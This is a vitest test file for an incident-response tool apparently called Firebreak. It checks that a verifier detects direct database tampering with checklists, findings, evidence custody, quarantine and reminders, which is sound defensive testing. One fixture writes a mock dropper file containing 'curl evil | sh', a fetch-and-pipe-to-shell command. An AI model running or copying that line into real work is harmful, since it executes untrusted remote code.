import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { EvidenceItem, Incident, StoredFinding, VerifyAllResult, VerifyResult } from '../../../src-main/contract';
import type { CollectSummary } from '../../../src-main/jobs/evidence/evidenceCollector';
import { raiseDueEscalations } from '../../../src-main/services/escalations/escalations';
import { registerEvidence } from '../../../src-main/services/evidence/evidenceRegister';
import { quarantineFile } from '../../../src-main/services/evidence/quarantine';
import { recordScan } from '../../../src-main/services/scans/scans';
import { callOk, makeTestContext, type TestContext } from '../../support/serviceContext';

let t: TestContext;
let id: string;
let evidenceId: string;
let findingId: number;
let quarantineId: string;

const call = <T>(name: string, input: unknown): T => callOk<T>(t, name, input);
const verify = () => call<VerifyResult>('incident.verify', { id });
const sql = (statement: string, ...params: unknown[]) => t.ctx.db.prepare(statement).run(...params);

/** Drops a table's append-only guard, runs the statement, puts the guard back: what a user with the file can do. */
function tamper(table: string, statement: string, ...params: unknown[]): void {
  const db = t.ctx.db;
  const triggers = db.prepare("SELECT name, sql FROM sqlite_master WHERE type = 'trigger' AND tbl_name = ?").all(table) as { name: string; sql: string }[];
  for (const trigger of triggers) db.exec(`DROP TRIGGER ${trigger.name}`);
  sql(statement, ...params);
  for (const trigger of triggers) db.exec(trigger.sql);
}

const secretFinding = (line: number) => ({
  rule: 'aws-access-key',
  description: 'AWS access key',
  file: 'config/app.env',
  line,
  column: 5,
  commit: null,
  author: null,
  date: null,
  redacted: 'AKIA…MPLE',
  fingerprint: `abcdef012345678${line}`,
  inWorkingTree: null,
});

beforeEach(async () => {
  t = makeTestContext();
  id = call<Incident>('incident.declare', { title: 'Everything at once', severity: 'P1' }).id;
  const steps = call<{ steps: { id: string }[] }>('checklist.get', { id }).steps;
  call('checklist.change', { id, stepId: steps[0]!.id, change: 'done' });
  call('checklist.change', { id, stepId: steps[1]!.id, change: 'skip', reason: 'no logs kept' });
  call('checklist.change', { id, stepId: steps[0]!.id, change: 'note', text: 'paged the DBA' });
  call('checklist.addStep', { id, phase: 'Contain', text: 'Block the egress IP', command: 'iptables -A OUTPUT -d 203.0.113.9 -j DROP', critical: true });

  const scan = recordScan(t.ctx, id, { root: '/srv/app', findings: [secretFinding(3), secretFinding(9)], stats: { files: 2, bytes: 10, commits: 0, skipped: { binary: 0, tooLarge: 0, ignored: 0, unreadable: 0 } } } as never, false, '2026-11-23T14:15:02.000Z');
  findingId = scan.findings[0]!.id;
  call<StoredFinding>('scan.markFinding', { findingId, status: 'false-positive', note: 'test fixture' });

  const summary = { incidentId: id, archiveSha256: 'f'.repeat(64), signature: null, totals: { files: 2, bytes: 10, problems: 0 }, finishedAt: '2026-11-23T14:16:00.000Z', collector: 'ana', roots: ['/var/log'], host: 'laptop' };
  const manifestFile = path.join(t.dataDir, 'a.tar.gz.manifest.json');
  fs.writeFileSync(manifestFile, '{"entries":[]}');
  evidenceId = registerEvidence(t.ctx, summary as unknown as CollectSummary, '/cases/a.tar.gz', manifestFile).id;
  call<EvidenceItem>('evidence.addCustody', { evidenceId, action: 'handed-over', detail: 'to legal' });

  const suspicious = path.join(t.dataDir, 'dropper.sh');
  fs.writeFileSync(suspicious, 'curl evil | sh\n');
  quarantineId = (await quarantineFile(t.ctx, suspicious, id)).id;

  t.advance(20 * 60_000);
  const [reminder] = raiseDueEscalations(t.ctx);
  call('reminders.acknowledge', { id, key: reminder!.key });
});
afterEach(() => t.close());

describe('verify replays every table the events describe', () => {
  it('passes an incident whose checklist, notes, scans, findings, evidence, custody, quarantine and reminders all match', () => {
    expect(verify()).toMatchObject({ intact: true, firstBreak: null, orphaned: false, mismatches: [] });
  });

  it('names a checklist step whose status was edited in the database, with what differs', () => {
    const step = call<{ steps: { id: string }[] }>('checklist.get', { id }).steps[2]!.id;
    sql("UPDATE checklist_steps SET status = 'done', updated_by = 'mallory' WHERE incident_id = ? AND step_id = ?", id, step);
    const result = verify();
    expect(result).toMatchObject({ intact: false, firstBreak: { reason: 'state-mismatch' } });
    expect(result.mismatches).toEqual([
      { record: 'checklist step', key: step, message: `checklist step ${step}: status is "done" in the database, "open" on the timeline; updatedBy is "mallory" in the database, null on the timeline` },
    ]);
  });

  it('names a step note rewritten, and an ad-hoc step inserted without an event', () => {
    sql("UPDATE checklist_notes SET text = 'nothing to see' WHERE incident_id = ?", id);
    sql("INSERT INTO checklist_steps (incident_id, step_id, position, phase, text, detail, command, action, critical, adhoc, status, reason) VALUES (?, 'adhoc-9', 99, 'Recover', 'x', '', '', NULL, 0, 1, 'open', '')", id);
    const messages = verify().mismatches.map((mismatch) => mismatch.message);
    expect(messages).toEqual(['checklist step adhoc-9 is in the database but no event on the timeline records it', expect.stringMatching(/^step note .+ note 1: text is "nothing to see" in the database, "paged the DBA" on the timeline$/)]);
  });

  it('names a finding whose mark was changed, and one marked without an event', () => {
    sql("UPDATE scan_findings SET status = 'open', status_note = '' WHERE id = ?", findingId);
    sql("UPDATE scan_findings SET status = 'false-positive' WHERE id = ?", findingId + 1);
    expect(verify().mismatches).toEqual([
      { record: 'finding', key: String(findingId), message: `finding ${findingId}: status is "open" in the database, "false-positive" on the timeline; statusNote is "" in the database, "test fixture" on the timeline` },
      { record: 'finding', key: String(findingId + 1), message: `finding ${findingId + 1} is in the database but no event on the timeline records it` },
    ]);
  });

  it('names a scan that lost a finding', () => {
    sql('DELETE FROM scan_findings WHERE id = ?', findingId + 1);
    expect(verify().mismatches).toEqual([expect.objectContaining({ record: 'scan', message: expect.stringMatching(/findings is 1 in the database, 2 on the timeline/) })]);
  });

  it('names evidence moved to another archive, and a custody entry added behind Firebreak\'s back', () => {
    sql("UPDATE evidence_items SET archive = '/cases/swapped.tar.gz' WHERE id = ?", evidenceId);
    tamper('custody_entries', "INSERT INTO custody_entries (evidence_id, at, actor, device_id, action, detail) VALUES (?, '2026-11-23T15:00:00.000Z', 'mallory', 'd', 'copied', 'to usb')", evidenceId);
    expect(verify().mismatches).toEqual([
      { record: 'evidence', key: evidenceId, message: `evidence ${evidenceId}: archive is "/cases/swapped.tar.gz" in the database, "/cases/a.tar.gz" on the timeline` },
      { record: 'custody entry', key: `${evidenceId} entry 3`, message: `custody entry ${evidenceId} entry 3 is in the database but no event on the timeline records it` },
    ]);
  });

  it('names a rewritten custody entry, a quarantined file marked released and a reminder acknowledged by someone else', () => {
    tamper('custody_entries', "UPDATE custody_entries SET actor = 'mallory' WHERE evidence_id = ? AND action = 'handed-over'", evidenceId);
    sql("UPDATE quarantine SET released_at = '2026-11-23T15:00:00.000Z', released_by = 'mallory' WHERE id = ?", quarantineId);
    sql("UPDATE reminders SET acknowledged_by = 'mallory' WHERE incident_id = ?", id);
    expect(verify().mismatches.map((mismatch) => `${mismatch.record}: ${mismatch.message}`)).toEqual([
      expect.stringMatching(/^custody entry: .* entry 2: actor is "mallory" in the database, ".+" on the timeline$/),
      expect.stringMatching(/^quarantined file: .*releasedAt is "2026-11-23T15:00:00.000Z" in the database, null on the timeline; releasedBy is "mallory" in the database, null on the timeline$/),
      expect.stringMatching(/^reminder: .*acknowledgedBy is "mallory" in the database/),
    ]);
  });
});

describe('orphans', () => {
  it('reports events whose incident row was deleted, where it used to say intact', () => {
    t.ctx.db.pragma('foreign_keys = OFF');
    sql('DELETE FROM incidents WHERE id = ?', id);
    const result = verify();
    expect(result).toMatchObject({ id, intact: false, orphaned: true, firstBreak: { reason: 'orphaned-events', message: expect.stringMatching(/the incident row of .* is gone but its \d+ event\(s\) remain: it was deleted outside Firebreak/) } });
  });

  it('verify.all checks every incident and every orphan, rows without events included', () => {
    const other = call<Incident>('incident.declare', { title: 'Quiet one', severity: 'P3' }).id;
    expect(call<VerifyAllResult>('verify.all', {})).toMatchObject({ intact: true, checked: 2, broken: 0, orphaned: 0 });
    t.ctx.db.pragma('foreign_keys = OFF');
    sql('DELETE FROM incidents WHERE id = ?', id);
    sql("INSERT INTO checklist_notes (incident_id, step_id, at, actor, text) VALUES ('INC-20991231-000000', 's', 'x', 'a', 'left behind')");
    const all = call<VerifyAllResult>('verify.all', {});
    expect(all).toMatchObject({ intact: false, checked: 3, broken: 2, orphaned: 2 });
    expect(all.incidents.map((result) => [result.id, result.intact, result.orphaned])).toEqual([
      [id, false, true],
      [other, true, false],
      ['INC-20991231-000000', false, true],
    ].sort((a, b) => String(a[0]).localeCompare(String(b[0]))));
    expect(call<VerifyResult>('incident.verify', { id: 'INC-20991231-000000' }).mismatches).toEqual([expect.objectContaining({ record: 'step note', message: expect.stringContaining('no event on the timeline records it') })]);
  });
});
